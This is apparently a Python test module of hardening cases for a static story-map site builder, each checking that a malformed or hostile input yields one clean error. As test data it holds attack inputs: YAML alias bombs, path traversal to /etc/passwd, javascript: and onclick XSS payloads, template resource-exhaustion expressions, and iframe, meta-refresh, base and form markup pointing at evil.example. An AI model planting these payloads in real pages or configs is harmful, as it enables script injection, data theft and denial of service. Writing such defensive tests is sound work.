"""Faults and attacks found by probing (issue 17), each with the one Error it must give.

Like :mod:`badinput.cases`: each :class:`~badinput.cases.Case` breaks a copy of the project and
expects exit status 1, no traceback, an ``Error:`` holding ``expect`` and nothing lost. The
classes: YAML read strictly (duplicate keys, non-finite and absurd numbers, alias bombs), text
files that are not text, paths leading out of the project, web addresses that are not http(s),
the config's own name in messages, chapters bounded in time and size, geometry and numbers out
of range, an unwritable output folder, and markup that only shows once a page is built
(``mkdocs=True``: these run ``build`` and get as far as MkDocs).
"""

from __future__ import annotations

import os
import random
import shutil
from collections.abc import Callable
from pathlib import Path

from badinput.cases import (
    CHAPTER,
    CONFIG,
    DISABILITY,
    WARDS,
    Case,
    append_chapter,
    boundaries,
    csv_cell,
    edit,
    write,
)

BUILT = "chapters/05-connectivity.md: the built page connectivity.html holds"
REPO = Path(__file__).resolve().parent.parent.parent
# append_chapter adds a blank line, then the expression: the line the Error must name
APPENDED = len((REPO / CHAPTER).read_text("utf-8").splitlines()) + 2
DERI = "data/deri/london_lsoa11_deri_v1.6_national_scores.csv"


def both(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
    def apply(project: Path) -> None:
        for step in steps:
            step(project)

    return apply


def limits(text: str) -> Callable[[Path], None]:
    """Append a limits: section to the config (small limits keep the cases fast)."""

    def apply(project: Path) -> None:
        path = project / CONFIG
        path.write_text(path.read_text("utf-8") + f"\nlimits:\n{text}", "utf-8")

    return apply


def config_bytes(fn: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def apply(project: Path) -> None:
        path = project / CONFIG
        path.write_bytes(fn(path.read_bytes()))

    return apply


def bomb(indent: str = "") -> str:
    lines = [f"{indent}a: &a [x, x, x, x, x, x, x, x, x]"]
    for prev, name in zip("abcdef", "bcdefg", strict=True):
        lines.append(f"{indent}{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def _chapter_outside(project: Path) -> None:
    outside = project.parent / "outside.md"
    outside.write_text("# Not ours\n", "utf-8")
    (project / CHAPTER).unlink()
    os.symlink(outside, project / CHAPTER)


def _source_outside(project: Path) -> None:
    shutil.copyfile(project / DERI, project.parent / "outside.csv")
    edit(CONFIG, f"file: {DERI}", "file: ../outside.csv")(project)


def _other_config(text_edit: tuple[str, str]) -> Callable[[Path], None]:
    def apply(project: Path) -> None:
        text = (project / CONFIG).read_text("utf-8")
        assert text_edit[0] in text
        (project / "other.yml").write_text(text.replace(*text_edit, 1), "utf-8")

    return apply


def _map_coords(geometry: dict, fn: Callable[[list[float]], list[float]]) -> None:
    def walk(item):
        if item and isinstance(item[0], int | float):
            return fn(item)
        return [walk(x) for x in item]

    geometry["coordinates"] = walk(geometry["coordinates"])


def _swap_axes(data: dict) -> None:
    for feature in data["features"]:
        _map_coords(feature["geometry"], lambda xy: [xy[1], xy[0]])


def _shift(dx: float) -> Callable[[dict], None]:
    def apply(data: dict) -> None:
        _map_coords(data["features"][10]["geometry"], lambda xy: [xy[0] + dx, xy[1]])

    return apply


def _random_bytes(project: Path) -> None:
    (project / CHAPTER).write_bytes(random.Random(17).randbytes(4096))


STEP_BOMB = "\n```step\n" + bomb() + "focus: Barnet\n```\nText.\n"

HARDENING = [
    # YAML read strictly
    Case(
        "config-duplicate-key",
        edit(CONFIG, "  language: en\n", "  language: en\n  language: cy\n"),
        ("site_config.yml line 11: site.language: given twice (lines 10 and 11)",),
    ),
    Case(
        "config-infinite-number",
        edit(
            CONFIG,
            "{indicator: pct_disabled, weight: 1}",
            "{indicator: pct_disabled, weight: .inf}",
        ),
        "index.components[2].indicators[0].weight: .inf is not a finite number",
    ),
    Case(
        "config-nan",
        edit(CONFIG, "  simplify_metres: 30", "  simplify_metres: .nan"),
        "geography.simplify_metres: .nan is not a finite number",
    ),
    Case(
        "config-absurd-number",
        edit(CONFIG, "    runs: 500", "    runs: 100000000000000000000"),
        "index.robustness.runs: 100000000000000000000 is too large",
    ),
    Case(
        "config-huge-float-string",
        edit(CONFIG, "  simplify_metres: 30", "  simplify_metres: 1e400"),
        "geography.simplify_metres: Input should be a finite number",
    ),
    Case(
        "config-alias-bomb",
        config_bytes(lambda b: b + b"\n" + bomb().encode()),
        "site_config.yml: refused: its aliases (*name) expand to more than 100,000 values",
    ),
    # text files are text
    Case(
        "config-utf16",
        config_bytes(lambda b: b.decode("utf-8").encode("utf-16")),
        "site_config.yml: saved as UTF-16 (byte 0 is a UTF-16 byte-order mark)",
    ),
    Case(
        "config-nul-byte",
        config_bytes(lambda b: b[:100] + b"\x00" + b[100:]),
        "site_config.yml: this is a binary file, not text (a NUL byte at byte 100)",
    ),
    Case(
        "config-control-character",
        config_bytes(lambda b: b[:50] + b"\x07" + b[50:]),
        "site_config.yml: a control character (0x07) at byte 50",
    ),
    Case("chapter-random-binary", _random_bytes, f"{CHAPTER}: this is a binary file, not text"),
    Case(
        "chapter-utf16",
        write(CHAPTER, "# Connectivity\n".encode("utf-16")),
        f"{CHAPTER}: saved as UTF-16",
    ),
    Case(
        "chapter-control-character",
        append_chapter("\nA bell \x07 here.\n"),
        (f"{CHAPTER}: a control character (0x07) at byte", "line "),
    ),
    # paths stay inside the project, web addresses are http(s)
    Case(
        "config-chapter-outside",
        edit(CONFIG, "file: chapters/01-introduction.md", "file: /etc/passwd"),
        "site_config.yml: chapters[0].file: /etc/passwd leads outside the project folder",
    ),
    Case(
        "config-home-traversal",
        edit(CONFIG, "home: chapters/index.md", "home: ../../../../etc/hostname"),
        "site_config.yml: home: ../../../../etc/hostname leads outside the project folder",
    ),
    Case(
        "config-chapter-symlink-outside",
        _chapter_outside,
        f"chapters[4].file: {CHAPTER} leads outside the project folder",
    ),
    Case(
        "config-source-outside",
        _source_outside,
        "sources.deri16.file: ../outside.csv leads outside the project folder",
    ),
    Case(
        "config-site-url-javascript",
        edit(CONFIG, "  language: en\n", "  language: en\n  url: javascript:alert(1)\n"),
        "site_config.yml: site.url: 'javascript:alert(1)' is not a web address",
    ),
    Case(
        "config-basemap-file-url",
        edit(CONFIG, "maps:\n", "maps:\n  basemap: {url: 'file:///etc/passwd', attribution: x}\n"),
        "site_config.yml: maps.basemap.url: 'file:///etc/passwd' is not a web address",
    ),
    # the config actually used is the one named
    Case(
        "config-other-name",
        _other_config(("  language: en\n", "  language: en\n  colour: red\n")),
        "other.yml: site.colour: unknown key",
        ("check", "--config", "other.yml"),
        absent=("site_config.yml",),
    ),
    Case(
        "config-other-name-in-data-error",
        _other_config(("numerator: age_75_plus", "numerator: age_75_and_over")),
        "Fix the column names in the file or in other.yml",
        ("check", "--config", "other.yml"),
        absent=("site_config.yml",),
    ),
    # chapters bounded in time and size
    Case(
        "chapter-nested-loops",
        both(
            limits("  chapter_seconds: 1\n"),
            append_chapter(
                "\n{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}\n"
            ),
        ),
        (f"{CHAPTER} line {APPENDED}: the chapter took longer than 1 s", "limits.chapter_seconds"),
    ),
    Case(
        "chapter-huge-string",
        append_chapter("\n{{ 'x' * 4000000000 }}\n"),
        f"{CHAPTER} line {APPENDED}: a string or list repeated 4,000,000,000 times",
    ),
    Case(
        "chapter-range-overflow",
        append_chapter("\n{{ range(10**9) | list }}\n"),
        f"{CHAPTER} line {APPENDED}: range() in a chapter may give at most 100,000 numbers",
    ),
    Case(
        "chapter-huge-power",
        append_chapter("\n{{ 10 ** 100000 }}\n"),
        f"{CHAPTER} line {APPENDED}: 10 ** 100000 is a number far too large",
    ),
    Case(
        "chapter-output-too-large",
        both(
            limits("  chapter_kb: 100\n"),
            append_chapter(
                "\n{% for i in range(99999) %}{% for j in range(999) %}x{% endfor %}{% endfor %}\n"
            ),
        ),
        f"{CHAPTER} line {APPENDED}: the rendered chapter would be",
    ),
    Case(
        "chapter-namespace-doubling",
        append_chapter(
            "\n{% set ns = namespace(s='x') %}{% for i in range(40) %}"
            "{% set ns.s = ns.s ~ ns.s %}{% endfor %}\n"
        ),
        f"{CHAPTER} line {APPENDED}: namespace value 's' would be",
    ),
    Case(
        "chapter-filter-width",
        append_chapter("\n{{ 'x' | center(3000000000) }}\n"),
        f"{CHAPTER} line {APPENDED}: a filter's width or count would be 3,000,000,000 characters",
    ),
    Case(
        "chapter-endless-macro",
        append_chapter("\n{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}\n"),
        f"{CHAPTER} line {APPENDED}: the expression there calls itself without end",
    ),
    Case(
        "chapter-step-alias-bomb",
        append_chapter(STEP_BOMB),
        ("the step settings cannot be read", "expand to more than 100,000 values"),
        max_chars=2000,
    ),
    Case(
        "chapter-step-duplicate-key",
        append_chapter("\n```step\nfocus: Barnet\nfocus: Brent\n```\nText.\n"),
        ("the step settings cannot be read", "focus: given twice"),
    ),
    # geometry and numbers
    Case(
        "geometry-swapped-axes",
        boundaries(_swap_axes),
        (f"{WARDS}: features ", "have longitude and latitude swapped"),
    ),
    Case(
        "geometry-outside-crs",
        boundaries(_shift(200)),
        (f"{WARDS}: features ", "outside the valid range of EPSG:4326"),
    ),
    Case(
        "geometry-outside-uk",
        boundaries(_shift(20)),
        (f"{WARDS}: features ", "lie outside the United Kingdom"),
    ),
    Case(
        "data-infinite-value",
        csv_cell(DISABILITY, 11, "pop_total", "inf"),
        f"{DISABILITY} rows 11: pop_total is not a finite number (inf)",
    ),
    Case(
        "data-huge-value",
        csv_cell(DISABILITY, 12, "pop_total", "1e400"),
        f"{DISABILITY} rows 12: pop_total is not a finite number (1e400)",
    ),
    # the output folder
    Case(
        "out-unwritable",
        lambda p: None,
        "cannot write the site there",
        ("build", "--out", "/sys/storymap-site"),
    ),
    # what only the built page shows
    Case(
        "chapter-attr-list-handler",
        append_chapter('\nA paragraph.\n{: onclick="alert(1)" }\n'),
        f"{BUILT} an event handler onclick= on <p>",
        ("build",),
        mkdocs=True,
    ),
    Case(
        "chapter-jinja-comment-split",
        append_chapter('\n<div title="x" on{# #}click="alert(1)">x</div>\n'),
        f"{BUILT} an event handler onclick= on <div>",
        ("build",),
        mkdocs=True,
    ),
    Case(
        "chapter-entity-javascript",
        append_chapter('\n<a href="&#106;avascript:alert(1)">x</a>\n'),
        f"{BUILT} a javascript: URL in href= on <a>",
        ("build",),
        mkdocs=True,
    ),
    Case(
        "chapter-entity-javascript-markdown",
        append_chapter("\n[x](&#106;avascript:alert(1))\n"),
        f"{BUILT} a javascript: URL in href= on <a>",
        ("build",),
        mkdocs=True,
    ),
    Case(
        "chapter-meta-refresh",
        append_chapter('\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'),
        f'{BUILT} <meta http-equiv="refresh">',
        ("build",),
        mkdocs=True,
    ),
    Case(
        "chapter-iframe",
        append_chapter('\n<iframe src="https://evil.example/"></iframe>\n'),
        f"{BUILT} a <iframe> element",
        ("build",),
        mkdocs=True,
    ),
    Case(
        "chapter-form-elsewhere",
        append_chapter('\n<form action="https://evil.example/s"><input name="q"></form>\n'),
        f"{BUILT} a form sending to evil.example",
        ("build",),
        mkdocs=True,
    ),
    Case(
        "chapter-external-image",
        append_chapter("\n![x](https://evil.example/t.png)\n"),
        f"{CHAPTER} line {APPENDED}: the image 'https://evil.example/t.png' is on another site",
        ("build",),
    ),
    Case(
        "chapter-base",
        append_chapter('\n<base href="https://evil.example/">\n'),
        f"{BUILT} a <base> element",
        ("build",),
        mkdocs=True,
    ),
]
